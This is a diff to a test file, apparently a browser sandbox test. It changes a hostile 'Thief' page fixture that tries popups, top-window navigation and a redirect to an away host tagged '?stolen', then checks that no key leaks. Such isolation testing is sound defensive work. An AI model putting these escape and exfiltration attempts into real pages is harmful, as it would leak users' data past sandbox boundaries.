@@ -53,7 +53,6 @@ const attempts = {
   },
   popup: () => String(window.open(AWAY)),
   top: () => { top.location.href = AWAY; return 'sent' },
-  self: () => { setTimeout(() => { location.href = AWAY + '/?stolen' }, 300); return 'sent' },
   agent: async () => 'asked',
 }
 const SERVER = 'URL'
@@ -74,7 +73,12 @@ export default function Thief() {
         .then((value) => setGot((now) => ({ ...now, [name]: String(value) })))
   }, [])
   const isDone = Object.keys(got).length === Object.keys(attempts).length
-  return <pre data-done={isDone}>{JSON.stringify(got)}</pre>
+  return (
+    <>
+      <pre data-done={isDone}>{JSON.stringify(got)}</pre>
+      <button onClick={() => { location.href = AWAY + '/?stolen' }}>Leave</button>
+    </>
+  )
 }
 `
 
@@ -142,6 +146,8 @@ describe.skipIf(found === undefined)('a page that wants more than it declares', 
     expect(page.url()).toContain(door.url)
     expect(await page.locator('.page-links').count()).toBe(1)
     expect(JSON.stringify(got)).not.toContain(keyFor('anna'))
+    // the frame is left with nothing, and nothing of it has arrived
+    await window.frame.getByRole('button', { name: 'Leave' }).click()
     await window.frame.getByText('agent').waitFor({ state: 'detached' })
     expect(arrived).toEqual([])
     await window.close()
